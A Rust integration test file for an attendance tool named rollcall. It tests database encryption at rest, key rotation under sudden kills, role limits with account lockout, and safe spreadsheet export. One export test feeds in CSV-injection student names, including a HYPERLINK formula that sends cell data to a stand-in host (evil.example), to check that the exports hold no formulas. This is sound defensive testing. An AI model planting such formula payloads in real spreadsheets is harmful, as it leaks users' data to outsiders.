//! Encryption at rest (issue 12, part 1), through the `rollcall` binary on real database files:
//! the file reveals nothing of a seeded register and opens with its key only; an earlier
//! version's unencrypted database is encrypted in place with everything in it (and its
//! templates still recognise the clip's people); `key rotate` re-encrypts, and a rotation or a
//! backup killed at any moment leaves a database that opens with everything in it.

mod common;

use std::path::Path;
use std::time::Duration;

use common::{contains, datasets, enrol_stage, fails, raw_database, status_of, Env};
use diesel::connection::SimpleConnection;
use diesel::prelude::*;
use serde_json::Value;

const CLIP: &str = "video_hamilton/short_hamilton_clip.mp4";

/// What a person would compare: the day's register, the students, the audit log.
fn state(env: &Env) -> (Value, Value, Value) {
    (env.json(&["report", "--class", "Stage", "--date", "today"]), env.json(&["students"]), env.json(&["audit"]))
}

#[derive(QueryableByName)]
struct Blob {
    #[diesel(sql_type = diesel::sql_types::Text)]
    model_id: String,
    #[diesel(sql_type = diesel::sql_types::Binary)]
    embedding: Vec<u8>,
}

fn blobs(conn: &mut SqliteConnection) -> Vec<Blob> {
    diesel::sql_query("SELECT model_id, embedding FROM enrolments ORDER BY id").load(conn).unwrap()
}

/// The templates in clear (as the recogniser gets them), as the bytes an earlier version stored.
fn clear_templates(env: &Env) -> Vec<(i32, Vec<u8>)> {
    let model = blobs(&mut env.sql())[0].model_id.clone();
    let mut store = env.store();
    store.templates_except(0, &model).unwrap().into_iter().map(|t| (t.student_row, t.embedding.iter().flat_map(|x| x.to_le_bytes()).collect())).collect()
}

#[test]
fn the_raw_file_reveals_nothing_and_opens_with_its_key_only() {
    let Some(d) = datasets() else { return };
    let env = enrol_stage(Env::on_file(), &d);
    env.cmd().args(["run", "--class", "Stage", "--max-frames", "120", "--source"]).arg(d.join(CLIP)).assert().success();
    env.cmd().args(["override", "--class", "Stage", "--date", "today", "--student", "ABS", "--status", "excused", "--reason", "orthodontist visit"]).assert().success();
    let before = state(&env);
    assert_eq!(status_of(&before.0, "LMM"), "present");

    let sealed = blobs(&mut env.sql());
    let clear = clear_templates(&env);
    assert_eq!((sealed.len(), clear.len()), (2, 2));
    let raw = raw_database(&env);
    assert!(!raw.starts_with(b"SQLite format 3"), "the file is encrypted");
    for text in ["Lin-Manuel", "Miranda", "Lacamoire", "orthodontist", "Luz Miranda", "short_hamilton_clip"] {
        assert!(!contains(&raw, text.as_bytes()), "{text:?} readable in the database file");
    }
    for (_, t) in &clear {
        assert!(!contains(&raw, &t[..32]), "template bytes readable in the file");
    }
    for b in &sealed {
        assert!(!contains(&raw, &b.embedding[..32]), "sealed template bytes readable in the file");
    }
    // Decrypted pages (someone with the file and its key) hold the templates only sealed.
    let pages = common::decrypted_database(&env);
    assert!(contains(&pages, b"Lacamoire"), "the test decrypts the pages the right way");
    for (_, t) in &clear {
        assert!(!contains(&pages, &t[..32]), "a template is stored unsealed");
    }
    #[cfg(unix)]
    for p in [env.db(), env.key_file()] {
        assert_eq!(std::os::unix::fs::PermissionsExt::mode(&std::fs::metadata(&p).unwrap().permissions()) & 0o077, 0, "{} is private", p.display());
    }

    // Opens normally with its key: the same register, and `key status` says where the key is.
    assert_eq!(state(&env), before);
    let status = env.json(&["key", "status"]);
    assert_eq!(status["sealed_templates"], 2);
    assert!(status["key_kept_in"].as_str().unwrap().contains("rollcall.key"), "{status}");

    // A wrong key, a missing key, a loose key file: a sentence each, and nothing changed.
    let file_before = std::fs::read(env.db()).unwrap();
    let wrong = env.dir.path().join("wrong.key");
    std::fs::write(&wrong, format!("{}\n", "ab".repeat(32))).unwrap();
    #[cfg(unix)]
    std::fs::set_permissions(&wrong, std::os::unix::fs::PermissionsExt::from_mode(0o600)).unwrap();
    let out = env.cmd().env("ROLLCALL_KEY_FILE", &wrong).arg("students").output().unwrap();
    let err = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(1), "{err}");
    assert!(err.contains("does not open the database") && err.contains("rollcall restore"), "{err}");
    let missing = env.dir.path().join("nowhere.key");
    let out = env.cmd().env("ROLLCALL_KEY_FILE", &missing).arg("students").output().unwrap();
    let err = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(1), "{err}");
    assert!(err.contains("key is missing"), "{err}");
    assert!(!missing.exists(), "no new key is made for an encrypted database");
    #[cfg(unix)]
    {
        use std::os::unix::fs::PermissionsExt;
        std::fs::set_permissions(env.key_file(), std::fs::Permissions::from_mode(0o644)).unwrap();
        assert!(fails(&env, &["students"], 1).contains("chmod 600"));
        std::fs::set_permissions(env.key_file(), std::fs::Permissions::from_mode(0o600)).unwrap();
    }
    assert_eq!(std::fs::read(env.db()).unwrap(), file_before, "the database is untouched");
    assert_eq!(state(&env), before);
}

/// Turn the test's encrypted database into what an earlier version left: the same schema and
/// rows in a clear SQLite file, templates as bare little-endian floats, no key anywhere.
fn make_earlier_version(env: &Env) {
    let clear = clear_templates(env);
    let plain = env.dir.path().join("plain.sqlite3");
    {
        let mut conn = env.sql();
        conn.batch_execute(&format!("ATTACH DATABASE '{}' AS plain KEY ''; SELECT sqlcipher_export('plain');", plain.display())).unwrap();
        for (row, bytes) in &clear {
            diesel::sql_query("UPDATE plain.enrolments SET embedding = ? WHERE student_id = ?")
                .bind::<diesel::sql_types::Binary, _>(bytes)
                .bind::<diesel::sql_types::Integer, _>(row)
                .execute(&mut conn)
                .unwrap();
        }
        conn.batch_execute("DETACH DATABASE plain;").unwrap();
    }
    assert!(std::fs::read(&plain).unwrap().starts_with(b"SQLite format 3\0"));
    for side in ["", "-wal", "-shm"] {
        let _ = std::fs::remove_file(rollcall::storage::sidecar(&env.db(), side));
    }
    std::fs::rename(&plain, env.db()).unwrap();
    std::fs::remove_file(env.key_file()).unwrap();
}

#[test]
fn an_earlier_versions_unencrypted_database_is_encrypted_in_place_with_everything_in_it() {
    let Some(d) = datasets() else { return };
    let env = enrol_stage(Env::on_file(), &d);
    env.cmd().args(["run", "--class", "Stage", "--max-frames", "120", "--source"]).arg(d.join(CLIP)).assert().success();
    let before = state(&env);
    let templates_before = clear_templates(&env);
    make_earlier_version(&env);
    assert!(contains(&std::fs::read(env.db()).unwrap(), b"Lacamoire"), "the earlier version's file is readable");

    // The first start encrypts it (a new key is made), and everything is still there.
    assert_eq!(state(&env), before);
    assert!(env.key_file().exists());
    let raw = raw_database(&env);
    assert!(!contains(&raw, b"Lacamoire") && !contains(&raw, b"Miranda"), "still readable after the migration");
    let left: Vec<_> = std::fs::read_dir(env.db().parent().unwrap()).unwrap().map(|e| e.unwrap().file_name().to_string_lossy().to_string()).collect();
    assert!(left.iter().all(|n| !n.contains("unencrypted") && !n.contains("encrypting")), "a clear copy was left: {left:?}");
    // The migrated templates are sealed, and unseal to exactly what the earlier version held.
    assert!(blobs(&mut env.sql()).iter().all(|b| b.embedding.len() % 4 == 1), "sealed");
    assert_eq!(clear_templates(&env), templates_before);
}

#[test]
fn a_migration_killed_midway_leaves_the_earlier_file_and_finishes_next_time() {
    let env = Env::on_file();
    let roster = env.write("roster.csv", "student_id,first_name,last_name,class\nS-204417,Zebedee,Quintavalle,Form-7Z\n");
    env.cmd().args(["roster", "import"]).arg(&roster).assert().success();
    let before = env.json(&["students"]);
    // Killed after the clear file was renamed aside, before the copy was renamed in: the
    // folder holds the copy and the clear file, and no database.
    let db = env.db();
    make_earlier_version_without_templates(&env);
    let kept = rollcall::storage::sidecar(&db, ".unencrypted");
    std::fs::rename(&db, &kept).unwrap();
    std::fs::write(rollcall::storage::sidecar(&db, ".encrypting"), b"half a copy").unwrap();
    assert_eq!(env.json(&["students"]), before, "the earlier file was put back and encrypted");
    assert!(!kept.exists() && !rollcall::storage::sidecar(&db, ".encrypting").exists());
    assert!(!contains(&raw_database(&env), b"Quintavalle"));
}

fn make_earlier_version_without_templates(env: &Env) {
    let plain = env.dir.path().join("plain.sqlite3");
    env.sql().batch_execute(&format!("ATTACH DATABASE '{}' AS plain KEY ''; SELECT sqlcipher_export('plain'); DETACH DATABASE plain;", plain.display())).unwrap();
    for side in ["", "-wal", "-shm"] {
        let _ = std::fs::remove_file(rollcall::storage::sidecar(&env.db(), side));
    }
    std::fs::rename(&plain, env.db()).unwrap();
    std::fs::remove_file(env.key_file()).unwrap();
}

#[test]
fn key_rotation_re_encrypts_and_a_kill_at_any_moment_loses_nothing() {
    let Some(d) = datasets() else { return };
    let env = enrol_stage(Env::on_file(), &d);
    env.cmd().args(["run", "--class", "Stage", "--max-frames", "60", "--source"]).arg(d.join(CLIP)).assert().success();
    let (report, students, _) = state(&env);
    let old_key = std::fs::read(env.key_file()).unwrap();
    let out = String::from_utf8(env.cmd().args(["key", "rotate"]).assert().success().get_output().stdout.clone()).unwrap();
    assert!(out.contains("now encrypted under a new key"), "{out}");
    assert_ne!(std::fs::read(env.key_file()).unwrap(), old_key);
    assert_eq!((env.json(&["report", "--class", "Stage", "--date", "today"]), env.json(&["students"])), (report.clone(), students.clone()));
    let audit = env.json(&["audit"]);
    assert!(audit["audit"].as_array().unwrap().iter().any(|e| e["action"] == "key_rotated" && e["actor"] == common::OFFICE), "{audit}");
    // The old key no longer opens it.
    let old = env.dir.path().join("old.key");
    std::fs::write(&old, &old_key).unwrap();
    #[cfg(unix)]
    std::fs::set_permissions(&old, std::os::unix::fs::PermissionsExt::from_mode(0o600)).unwrap();
    let out = env.cmd().env("ROLLCALL_KEY_FILE", &old).arg("students").output().unwrap();
    assert_eq!(out.status.code(), Some(1));

    // kill -9 during a rotation, and during a backup, at many moments: the database opens
    // (with whichever key the rotation reached) and holds the same register.
    let bin = assert_cmd::cargo::cargo_bin("rollcall");
    let pending_key = Path::new(&format!("{}.next", env.key_file().display())).to_path_buf();
    for (i, delay_ms) in [0u64, 5, 15, 30, 50, 80, 120, 200].iter().enumerate() {
        // A rotation killed before its swap leaves its unused new key beside the old one (harmless:
        // the next rotation replaces it); a backup never makes one.
        let pending_before = pending_key.exists();
        let mut child = std::process::Command::new(&bin)
            .args(if i % 2 == 0 { vec!["key", "rotate"] } else { vec!["backup", "--force", "--out", "killed.rcbackup"] })
            .current_dir(env.dir.path())
            .envs(env.vars())
            .env("ROLLCALL_BACKUP_PASSPHRASE", "correct horse battery staple")
            .stdout(std::process::Stdio::null())
            .stderr(std::process::Stdio::null())
            .spawn()
            .unwrap();
        std::thread::sleep(Duration::from_millis(*delay_ms));
        let _ = child.kill();
        let _ = child.wait();
        assert_eq!(env.json(&["students"]), students, "after a kill at {delay_ms} ms");
        assert_eq!(env.json(&["report", "--class", "Stage", "--date", "today"]), report, "after a kill at {delay_ms} ms");
        let files: Vec<String> = std::fs::read_dir(env.db().parent().unwrap()).unwrap().map(|e| e.unwrap().file_name().to_string_lossy().to_string()).collect();
        assert!(files.iter().all(|n| !n.ends_with(".rotating")), "{files:?}");
        assert!(i % 2 == 0 || pending_before || !pending_key.exists(), "a killed backup left a pending key");
    }
}

#[test]
fn an_export_never_holds_a_formula_whatever_the_names_say() {
    let env = Env::new();
    // Names a spreadsheet would evaluate if they were written as they read (CSV injection).
    let names = [r#"=HYPERLINK("http://evil.example/?"&A1,"click")"#, "+1+1", "-2+3", "@SUM(1+1)"];
    let mut csv = String::from("student_id,first_name,last_name,class\n");
    for (i, n) in names.iter().enumerate() {
        csv.push_str(&format!("F{i},\"{}\",Last,7F\n", n.replace('"', "\"\"")));
    }
    env.cmd().args(["roster", "import"]).arg(env.write("roster.csv", &csv)).assert().success();
    for i in 0..names.len() {
        env.cmd().args(["mark", "--class", "7F", "--date", "today", "--student", &format!("F{i}"), "--status", "present"]).assert().success();
    }
    let out = env.dir.path().join("7F.xlsx");
    let today = chrono::Local::now().date_naive().to_string();
    env.cmd().args(["export", "--class", "7F", "--from", &today, "--to", &today, "--out"]).arg(&out).assert().success();
    #[cfg(unix)]
    assert_eq!(std::os::unix::fs::PermissionsExt::mode(&std::fs::metadata(&out).unwrap().permissions()) & 0o077, 0, "the export is private");
    use calamine::Reader;
    let mut wb = calamine::open_workbook_auto(&out).unwrap();
    for sheet in wb.sheet_names() {
        let formulas = wb.worksheet_formula(&sheet).unwrap();
        assert!(formulas.used_cells().all(|(_, _, f)| f.is_empty()), "a formula in {sheet}");
        let cells = wb.worksheet_range(&sheet).unwrap();
        for n in names {
            let text = format!("{n} Last");
            if sheet != "Summary" && sheet != "Attendance grid" && sheet != "Daily detail" {
                continue;
            }
            assert!(
                cells.used_cells().any(|(_, _, c)| matches!(c, calamine::Data::String(s) if *s == text)),
                "{text:?} is not a text cell in {sheet}"
            );
        }
    }
}

#[test]
fn a_teacher_sees_and_registers_only_their_class_and_failed_sign_ins_lock_the_account() {
    let env = Env::new();
    let roster = env.write("roster.csv", "student_id,first_name,last_name,class\nB1,Ada,Byron,7B\nC1,Carl,Chase,8C\n");
    // The first command on a fresh database creates its first office account, and says so.
    let out = env.cmd().args(["roster", "import"]).arg(&roster).assert().success().get_output().stderr.clone();
    assert!(String::from_utf8_lossy(&out).contains("first office account"), "{}", String::from_utf8_lossy(&out));
    env.add_teacher("Ms Smith", &["7B"]);
    let list = env.json(&["account", "list"]);
    assert_eq!(list["accounts"].as_array().unwrap().len(), 2, "{list}");
    assert!(!list.to_string().contains("argon2"), "no hash is shown");

    let teacher = |args: &[&str]| env.cmd_as("Ms Smith", common::TEACHER_PASSWORD).args(args).output().unwrap();
    let refused = |args: &[&str], says: &str| {
        let out = teacher(args);
        let err = String::from_utf8_lossy(&out.stderr).to_string();
        assert_eq!(out.status.code(), Some(1), "{args:?} was not refused: {err}");
        assert!(err.contains(says) && !err.contains("panicked"), "{args:?}: {err}");
    };
    let photo = common::fixture("astronaut.png");
    refused(&["enroll", "B1", photo.to_str().unwrap()], "only an office account may enrol students");
    refused(&["delete-student", "B1"], "only an office account may delete students");
    refused(&["settings", "set", "mood", "on"], "only an office account may change settings");
    refused(&["backup", "--out", "all.rcbackup"], "only an office account may back up the register");
    refused(&["export-student", "B1", "--out", "b1.json"], "only an office account may export a student's data");
    refused(&["audit"], "only an office account may read the audit log");
    refused(&["account", "add", "Mr X", "--role", "office"], "only an office account may create accounts");
    refused(&["report", "--class", "8C", "--date", "today"], "Ms Smith teaches 7B: class 8C is not one of them");
    refused(&["export", "--class", "8C", "--from", "2026-11-02", "--to", "2026-11-02", "--out", "8c.xlsx"], "class 8C is not one of them");
    refused(&["mark", "--class", "8C", "--student", "C1", "--status", "present"], "class 8C is not one of them");
    refused(&["history", "--student", "C1", "--from", "2026-11-02", "--to", "2026-11-02"], "does not teach student C1");
    assert!(!env.dir.path().join("8c.xlsx").exists() && !env.dir.path().join("all.rcbackup").exists());

    // Their own class: seen, registered, audited under their name.
    let classes: Value = serde_json::from_slice(&teacher(&["--json", "classes"]).stdout).unwrap();
    assert_eq!(classes["classes"].as_array().unwrap().iter().map(|c| c["name"].as_str().unwrap()).collect::<Vec<_>>(), ["7B"], "{classes}");
    let students: Value = serde_json::from_slice(&teacher(&["--json", "students"]).stdout).unwrap();
    assert!(!students.to_string().contains("C1") && students.to_string().contains("B1"), "{students}");
    assert!(teacher(&["mark", "--class", "7B", "--student", "B1", "--status", "present"]).status.success());
    assert!(teacher(&["report", "--class", "7B", "--date", "today"]).status.success());

    // No account named: a sentence, not a prompt.
    let out = env.cmd().env_remove("ROLLCALL_USER").arg("students").output().unwrap();
    assert_eq!(out.status.code(), Some(1));
    assert!(String::from_utf8_lossy(&out.stderr).contains("--user NAME"), "{}", String::from_utf8_lossy(&out.stderr));

    // A wrong password, then the right one: the failure is forgotten (and that sign-in audited).
    let out = env.cmd_as("Ms Smith", "a wrong password").arg("students").output().unwrap();
    assert!(String::from_utf8_lossy(&out.stderr).contains("4 more"), "{}", String::from_utf8_lossy(&out.stderr));
    assert!(teacher(&["students"]).status.success());
    // Five wrong passwords lock the account, even against the right one, until the office enables it.
    for i in 1..=5 {
        let out = env.cmd_as("Ms Smith", "not the password at all").arg("students").output().unwrap();
        let err = String::from_utf8_lossy(&out.stderr).to_string();
        assert_eq!(out.status.code(), Some(1));
        if i < 5 {
            assert!(err.contains("wrong password") && err.contains(&format!("{} more", 5 - i)), "{err}");
        } else {
            assert!(err.contains("is locked"), "{err}");
        }
    }
    refused(&["students"], "is locked");
    env.cmd().args(["account", "enable", "Ms Smith"]).assert().success();
    assert!(teacher(&["students"]).status.success());
    let audit = env.json(&["audit"]);
    let entries = audit["audit"].as_array().unwrap();
    let count = |action: &str, actor: &str| entries.iter().filter(|e| e["action"] == action && e["actor"] == actor).count();
    assert_eq!(count("sign_in_failed", "Ms Smith"), 7, "one wrong password, then five, and one try while locked");
    assert_eq!(count("sign_in", "Ms Smith"), 1, "the first sign-in after the failures forgets them");
    assert_eq!(count("mark_by_hand", "Ms Smith"), 1);
    assert_eq!(count("account_created", common::OFFICE), 2, "the first account and the teacher's");
    assert_eq!(count("account_enabled", common::OFFICE), 1);
}

/// No credential store (a headless Linux box: no D-Bus session) and no key file or passphrase
/// named: a sentence saying what to set, exit 1, and no database is created without a key.
#[cfg(target_os = "linux")]
#[test]
fn no_credential_store_and_no_key_file_is_a_sentence_and_creates_nothing() {
    let env = Env::on_file();
    let out = env
        .cmd()
        .env_remove("ROLLCALL_KEY_FILE")
        .env_remove("ROLLCALL_PASSPHRASE")
        .env_remove("DBUS_SESSION_BUS_ADDRESS")
        .env_remove("DISPLAY")
        .env("XDG_RUNTIME_DIR", env.dir.path())
        .arg("students")
        .output()
        .unwrap();
    let err = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(1), "{err}");
    assert!(err.contains("no credential store") && err.contains("ROLLCALL_KEY_FILE") && !err.contains("panicked"), "{err}");
    assert!(!env.db().exists(), "no database without a key");
}
